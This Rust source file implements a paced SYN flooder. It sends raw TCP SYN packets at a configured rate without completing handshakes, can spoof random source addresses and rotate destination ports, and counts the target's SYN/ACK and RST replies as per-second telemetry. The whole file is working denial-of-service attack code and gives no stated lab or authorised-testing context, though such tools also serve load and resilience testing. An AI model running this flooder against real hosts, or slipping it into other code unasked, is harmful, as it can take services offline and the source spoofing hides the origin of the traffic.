//! Paced SYN flooder. Sends raw TCP SYN segments without ever completing a
//! handshake and counts the target's SYN/ACK and RST responses.

use std::net::Ipv4Addr;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::mpsc;
use std::sync::Arc;
use std::time::{Duration, Instant};

use serde::Serialize;

use super::packet::{self, TcpSyn, TCP_ACK, TCP_RST, TCP_SYN};
use super::{AttackError, PacingBucket, RawIpSocket, RawTcpSniffer};

#[derive(Debug, Clone)]
pub struct FloodOptions {
    pub target: Ipv4Addr,
    pub target_port: u16,
    /// Source address responses should return to. Randomized-source mode
    /// spoofs instead (responses then go nowhere and are not counted).
    pub source: Ipv4Addr,
    pub randomize_source: bool,
    pub rate_pps: u64,
    pub duration_s: f64,
    /// Rotate the destination port instead of hitting a fixed one.
    pub rotate_ports: bool,
}

/// Per-second send/response telemetry for one flood run.
#[derive(Debug, Clone, Serialize)]
pub struct FloodTelemetry {
    pub sent_pps: Vec<u64>,
    pub response_pps: Vec<u64>,
    pub sent_total: u64,
    pub responses_total: u64,
    pub errors: u64,
    /// Host could not keep up with the requested rate.
    pub shortfall: bool,
}

/// One inbound response observation, timestamped relative to flood start.
struct ResponseEvent {
    at: Duration,
}

pub fn syn_flood(opts: &FloodOptions) -> Result<FloodTelemetry, AttackError> {
    if opts.rate_pps == 0 {
        return Err(AttackError::Config("rate must be positive".into()));
    }
    if !(opts.duration_s > 0.0) {
        return Err(AttackError::Config("duration must be positive".into()));
    }
    let send_sock = RawIpSocket::new()?;
    let sniffer = RawTcpSniffer::new(100)?;

    let windows = opts.duration_s.ceil() as usize;
    let start = Instant::now();
    let deadline = start + Duration::from_secs_f64(opts.duration_s);
    let stop = Arc::new(AtomicBool::new(false));

    // bounded queue: the receiver never blocks telemetry aggregation; if the
    // aggregator falls behind, events are dropped and counted as errors
    let (tx, rx) = mpsc::sync_channel::<ResponseEvent>(4096);
    let dropped = Arc::new(std::sync::atomic::AtomicU64::new(0));
    let receiver = {
        let stop = Arc::clone(&stop);
        let dropped = Arc::clone(&dropped);
        let target = opts.target;
        std::thread::spawn(move || {
            let mut buf = [0u8; 2048];
            while !stop.load(Ordering::Relaxed) {
                match sniffer.recv(&mut buf) {
                    Ok(Some(n)) => {
                        if let Some((src, _, _, flags)) = packet::parse_tcp(&buf[..n]) {
                            let synack = flags & (TCP_SYN | TCP_ACK) == TCP_SYN | TCP_ACK;
                            let rst = flags & TCP_RST != 0;
                            if src == target && (synack || rst) {
                                let ev = ResponseEvent { at: start.elapsed() };
                                if tx.try_send(ev).is_err() {
                                    dropped.fetch_add(1, Ordering::Relaxed);
                                }
                            }
                        }
                    }
                    Ok(None) => {}
                    Err(_) => break,
                }
            }
        })
    };

    let mut telemetry = FloodTelemetry {
        sent_pps: vec![0; windows],
        response_pps: vec![0; windows],
        sent_total: 0,
        responses_total: 0,
        errors: 0,
        shortfall: false,
    };
    let mut bucket = PacingBucket::new(opts.rate_pps);
    let mut seq: u32 = 0x6261_7365;
    let mut sport: u16 = 32_768;
    let mut dport_rot: u16 = 1;
    while Instant::now() < deadline {
        bucket.take_blocking();
        let now = Instant::now();
        if now >= deadline {
            break;
        }
        let src = if opts.randomize_source {
            // cheap LCG over a /16 so each packet looks like a new host
            seq = seq.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
            Ipv4Addr::new(10, 99, (seq >> 8) as u8, seq as u8)
        } else {
            opts.source
        };
        let dst_port = if opts.rotate_ports {
            dport_rot = if dport_rot == u16::MAX { 1 } else { dport_rot + 1 };
            dport_rot
        } else {
            opts.target_port
        };
        sport = if sport == u16::MAX { 32_768 } else { sport + 1 };
        seq = seq.wrapping_add(0x9e37);
        let pkt = packet::ipv4_tcp_syn(&TcpSyn {
            src,
            dst: opts.target,
            src_port: sport,
            dst_port,
            seq,
        });
        match send_sock.send_to(&pkt, opts.target) {
            Ok(()) => {
                let w = (now.duration_since(start).as_secs() as usize).min(windows - 1);
                telemetry.sent_pps[w] += 1;
                telemetry.sent_total += 1;
            }
            Err(_) => telemetry.errors += 1,
        }
    }
    stop.store(true, Ordering::Relaxed);
    receiver.join().ok();
    while let Ok(ev) = rx.try_recv() {
        let w = (ev.at.as_secs() as usize).min(windows - 1);
        telemetry.response_pps[w] += 1;
        telemetry.responses_total += 1;
    }
    telemetry.errors += dropped.load(Ordering::Relaxed);
    let expected = (opts.rate_pps as f64 * opts.duration_s) as u64;
    telemetry.shortfall = telemetry.sent_total < expected * 9 / 10;
    Ok(telemetry)
}
